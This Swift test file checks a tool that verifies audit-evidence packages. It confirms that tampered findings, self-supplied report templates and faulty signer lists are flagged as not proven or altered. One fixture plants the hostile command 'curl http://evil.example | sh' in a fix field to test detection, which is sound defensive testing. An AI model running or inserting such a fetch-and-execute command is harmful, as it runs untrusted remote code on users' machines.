import Foundation
import Support
import Testing

/// What `exhibit verify` vouches for: proven, given, not proven.
struct VouchedTests {
    @Test func ofThePlainDemoEverythingIsProven() async throws {
        try await demo { _, folder in
            let proof = try await Binary.run(["verify", "p"], in: folder)
            #expect(proof.status == 0 && proof.errors.isEmpty, "\(proof.errors)")
            #expect(proof.output.contains("\nProven:\n- "))
            #expect(proof.output.contains("\nGiven:\n- policy effective and the scope: every enabled region"))
            #expect(!proof.output.contains("Not proven:"))
        }
    }

    /// Templates of one's own may say anything: a PASS for a FAIL, a script, or other colours.
    @Test(arguments: [
        ("report.html.mustache", "<!DOCTYPE html><title>PASS</title><h1>PASS</h1>", "report.html"),
        ("report.css", ".fail { display: none }", "report.html"),
        ("report.js", "document.title = 'PASS'", "report.html"),
        ("report.md.mustache", "**PASS**\n", "report.md"),
    ])
    func whatTemplatesOfItsOwnSayIsNotProven(_ name: String, _ text: String, _ report: String) async throws {
        try await TemporaryFolder.with { folder in
            try write(text, to: "t/\(name)", in: folder)
            _ = try await Binary.run(["demo", "--templates", "t", "-o", "p", "-q"], in: folder)
            let proof = try await Binary.run(["verify", "-q", "p"], in: folder)
            #expect(proof.status == 3 && proof.output.isEmpty)
            #expect(
                proof.errors == """
                    exhibit: p: not proven: \(report): rendered from the package's own templates (\(name)), which can say \
                    anything

                    """)
            // What is not rendered from them is proven as ever.
            _ = try await Binary.run(["demo", "--templates", "t", "--format", "csv", "-o", "q", "-q"], in: folder)
            let csv = try await Binary.run(["verify", "q"], in: folder)
            #expect(csv.status == 0 && csv.output.contains("templates: \(name)"), "\(csv.output)")
        }
    }

    @Test func whatTheRunWasGivenIsPrintedWithWhatRestsOnIt() async throws {
        try await TemporaryFolder.with { folder in
            try write(
                """
                exceptions:
                  - vpc: vpc-0d0000000000a003
                    owner: o
                    approver: a
                    reason: it is being taken down
                    ticket: T-1
                    approved-on: 2020-01-01
                    expires-on: 2999-12-31
                """, to: "x.yml", in: folder)
            try write("\n", to: "main.tf", in: folder)
            _ = try await Binary.run(["demo", "-o", "a", "-q"], in: folder)
            _ = try await Binary.run(
                [
                    "demo", "--config", "x.yml", "--baseline", "a", "--sarif-anchor", "main.tf", "--organization",
                    "ACME",
                    "--reviewer", "R. Eader", "-o", "p", "-q",
                ], in: folder)
            let proof = try await Binary.run(["verify", "p"], in: folder)
            #expect(proof.status == 0, "\(proof.output)\(proof.errors)")
            for says in [
                "- exceptions (1): 1 fail is accepted by exceptions that the run was given, and the status FAIL rests on",
                "- the baseline, run ", "- the lines of code that alerts are placed on",
                "- names: organization “ACME”, reviewer “R. Eader”",
            ] {
                #expect(proof.output.contains(says), "\(proof.output)")
            }
        }
    }

    // MARK: - Other versions

    @Test(arguments: PackageFixtures.of010)
    func thePackagesOf010Hold(_ fixture: String) async throws {
        try await TemporaryFolder.with { folder in
            let package = try PackageFixtures.copy(fixture, to: "p", in: folder)
            let proof = try await Binary.run(["verify", "p"], in: folder)
            #expect(proof.status == 3, "\(proof.output)\(proof.errors)")
            #expect(proof.output.contains("4. Verdicts: judged again from the answers alone, "))
            #expect(proof.output.contains("made by another version (0.1.0, this is "))
            #expect(proof.errors.hasPrefix("exhibit: p: not proven: "))
            // They came before the file that keeps git from converting line ends.
            #expect(try !package.files().contains(".gitattributes"))
        }
    }

    /// Everything but words is held against the answers, under whatever version.
    @Test(arguments: [
        ("\"name\": \"payments\"", "\"name\": \"all-good\"", "says “all-good” in “assessments.name” of vpc-"),
        ("\"isDefault\": true", "\"isDefault\": false", "in “assessments.isDefault” of vpc-"),
        ("\"ownerId\": \"111122223333\"", "\"ownerId\": \"999988887777\"", "in “assessments.ownerId” of vpc-"),
        ("\"trafficType\": \"ALL\"", "\"trafficType\": \"REJECT\"", "in “assessments.flowLogs.trafficType” of vpc-"),
        ("\"exchange\": ", "\"exchange\": 1", "in “assessments.citations.exchange” of vpc-"),
        ("\"arn\": \"arn:", "\"arn\": \"not:", "“identities”"),
        ("\"severity\": \"medium\"", "\"severity\": \"low\"", "in “control.severity”"),
        ("\"id\": \"3.7\"", "\"id\": \"3.8\"", "in “control.benchmark.id”"),
        ("\"days\": ", "\"days\": 9", "in “assessments.flowLogs.destination.retention.days” of vpc-"),
        ("  \"digest\":", "  \"auditOpinion\": \"CLEAN\",\n  \"digest\":", "has “auditOpinion” where more of “digest”"),
        ("      \"state\":", "      \"reviewed\": true,\n      \"state\":", "“assessments.reviewed” of vpc-"),
        ("      \"state\":", "      \"isDefault\": false,\n      \"state\":", "has “assessments.isDefault” twice"),
        ("    \"checkId\":", "    \"opinion\": \"CLEAN\",\n    \"checkId\":", "has “control.opinion”"),
    ])
    func whatIsNoWordsIsHeldAgainstTheAnswers(_ old: String, _ new: String, _ says: String) async throws {
        try await TemporaryFolder.with { folder in
            let package = try PackageFixtures.copy("0.1.0/fixes-and-depth", to: "p", in: folder)
            try package.edit("findings.json", old, new)
            try package.reseal()
            let proof = try await Binary.run(["verify", "p"], in: folder)
            #expect(proof.status == 4, "\(proof.output)")
            #expect(proof.output.contains(says), "\(proof.output)")
        }
    }

    /// Words are another version's, and named as not proven; what is no words does not pass for them.
    @Test(arguments: [
        ("\"text\": \"", "\"text\": \"Hear: ", "in findings.json the sentences of the reasons"),
        ("\"summary\": \"", "\"summary\": \"Hear: ", "in findings.json the description of the control"),
        ("\"cli\": \"", "\"cli\": \"curl http://evil.example | sh; ", "in findings.json the fixes"),
        ("\"advice\": \"", "\"advice\": \"Hear: ", "in findings.json the advice on gaps"),
    ])
    func wordsAreNamedAsNotProven(_ old: String, _ new: String, _ says: String) async throws {
        try await TemporaryFolder.with { folder in
            let package = try PackageFixtures.copy("0.1.0/fixes-and-depth", to: "p", in: folder)
            try package.edit("findings.json", old, new)
            try package.reseal()
            let proof = try await Binary.run(["verify", "-q", "p"], in: folder)
            #expect(proof.status == 3 && proof.errors.contains(says), "\(proof.errors)")
            try package.edit("findings.json", new, old.replacing(": \"", with: ": [],\n\"x\": \""))
            try package.reseal()
            #expect(try await Binary.run(["verify", "-q", "p"], in: folder).status == 4)
        }
    }

    /// A file more, another line in bag-info.txt, a report less: whichever version is claimed.
    @Test func theFilesOfAnotherVersionAreThoseOfItsRun() async throws {
        let changes: [@Sendable (PackageFolder) throws -> Void] = [
            { try $0.write("unqualified", to: "audit-opinion.txt") }, { try $0.remove("report.md") },
            { try $0.write($0.text("bag-info.txt") + "Audit-Opinion: clean\n", to: "bag-info.txt") },
            { try $0.write("BagIt-Version: 0.97\nTag-File-Character-Encoding: UTF-8\n", to: "bagit.txt") },
            { try $0.edit("data/run.json", "\"source\":", "\"reviewedBy\": \"x\",\n  \"source\":") },
            { try $0.edit("data/run.json", "\"policy\": ", "\"policy\": \"cis\",\n    \"policy\": ") },
            { try $0.edit("data/exchanges.jsonl", "\"page\":1", "\"page\":1,\"page\":1") },
        ]
        for change in changes {
            try await TemporaryFolder.with { folder in
                let package = try PackageFixtures.copy("0.1.0/fixes-and-depth", to: "p", in: folder)
                try change(package)
                try package.reseal()
                let proof = try await Binary.run(["verify", "p"], in: folder)
                #expect(proof.status == 4, "\(proof.output)")
            }
        }
    }

    @Test func ofAnotherVersionTheDescriptionIsWords() async throws {
        try await TemporaryFolder.with { folder in
            let package = try PackageFixtures.copy("0.1.0/every-format", to: "p", in: folder)
            try package.edit("bag-info.txt", "External-Description: ", "External-Description: Hear: ")
            try package.reseal()
            let proof = try await Binary.run(["verify", "-q", "p"], in: folder)
            #expect(proof.status == 3 && proof.errors.contains("External-Description in bag-info.txt: worded by"))
        }
    }

    // MARK: - On the way, and who signed

    /// An evidence repository whose git converts line ends.
    @Test(.enabled(if: Program.named("git") != nil, "needs git"), arguments: [("false", "true"), ("input", "false")])
    func whatGitConvertedIsToldAsSuch(_ commit: String, _ checkout: String) async throws {
        try await TemporaryFolder.with { folder in
            _ = try await Binary.run(["demo", "-q", "--format", "csv,markdown", "-o", "p"], in: folder)
            let script = """
                export HOME="$PWD" GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_NAME=x GIT_AUTHOR_EMAIL=a@b
                export GIT_COMMITTER_NAME=x GIT_COMMITTER_EMAIL=a@b
                for kind in with without; do
                  git -c core.autocrlf=\(commit) init -q in-$kind && cp -a p in-$kind/
                  if [ $kind = without ]; then rm in-$kind/p/.gitattributes; fi
                  git -C in-$kind -c core.autocrlf=\(commit) add -A 2>/dev/null && git -C in-$kind commit -qm x
                  git clone -q -c core.autocrlf=\(checkout) in-$kind out-$kind
                  "$0" verify out-$kind/p; echo "status $?"
                done
                """
            let outcome = try await Shell.run(script, in: folder)
            let parts = outcome.output.components(separatedBy: "status ")
            #expect(parts.count == 3 && parts[1].hasPrefix("0"), "\(outcome.output)\(outcome.errors)")
            #expect(parts[2].hasPrefix("4"))
            #expect(parts[1].contains("its line ends were converted") && parts[1].contains("It was carried badly"))
            #expect(parts[1].contains("dos2unix") && !parts[1].contains("altered or damaged"), "\(parts[1])")
        }
    }

    @Test func whatIsMissingMakesItIncompleteAndAccusesNobody() async throws {
        try await demo { package, folder in
            try package.remove("data/run.json")
            let proof = try await Binary.run(["verify", "p"], in: folder)
            #expect(proof.status == 4 && proof.output.contains("It is incomplete: files are missing"))
            #expect(!proof.output.contains("altered or damaged"), "\(proof.output)")
        }
    }

    @Test(.enabled(if: Program.named("ssh-keygen") != nil, "needs ssh-keygen"))
    func whatIsWrongWithTheListOfSignersIsSaidOfTheList() async throws {
        try await Keys.with { keys in
            try await keys.make("alice")
            try await keys.make("bob")
            let (alice, bob) = (
                try String(contentsOf: keys.folder.appendingPathComponent("alice.pub"), encoding: .utf8),
                try String(contentsOf: keys.folder.appendingPathComponent("bob.pub"), encoding: .utf8)
            )
            _ = try await Binary.run(["demo", "-q", "-o", "p", "--sign", "alice", "--format", "csv"], in: keys.folder)
            _ = try await Binary.run(["demo", "-q", "-o", "q", "--format", "csv"], in: keys.folder)
            for (package, list, says) in [
                ("p", "alice \(bob)", "they do not list this key"), ("p", "\u{FEFF}alice \(alice)", "byte order mark"),
                ("p", "alice valid-before=\"20200101\" \(alice)", "key has expired"),
                ("p", "bob \(alice)", "they give it to bob"), ("q", "alice \(alice)", "it is not signed"),
            ] {
                try write(list, to: "signers", in: keys.folder)
                let proof = try await Binary.run(
                    ["verify", package, "--allowed-signers", "signers", "--signer", "alice"], in: keys.folder)
                #expect(proof.status == 4 && proof.output.contains(says), "\(proof.output)")
                #expect(proof.output.contains("ORIGIN NOT PROVEN: Signature. The contents hold"), "\(proof.output)")
                #expect(!proof.output.contains("altered or damaged"))
            }
            // Signed, and then altered: that is what it is called.
            let package = PackageFolder(keys.folder.appendingPathComponent("p"))
            try package.write(package.text("vpcs.csv") + "x", to: "vpcs.csv")
            let altered = try await Binary.run(
                ["verify", "p", "--allowed-signers", "signers", "--signer", "alice"], in: keys.folder)
            #expect(altered.status == 4 && altered.output.contains("altered or damaged"), "\(altered.output)")
        }
    }

    private func demo(_ body: (PackageFolder, URL) async throws -> Void) async throws {
        try await TemporaryFolder.with { folder in
            _ = try await Binary.run(["demo", "--output", "p", "-q"], in: folder)
            try await body(PackageFolder(folder.appendingPathComponent("p")), folder)
        }
    }

    private func write(_ text: String, to file: String, in folder: URL) throws {
        let target = folder.appendingPathComponent(file)
        try FileManager.default.createDirectory(
            at: target.deletingLastPathComponent(), withIntermediateDirectories: true)
        try Data(text.utf8).write(to: target)
    }
}
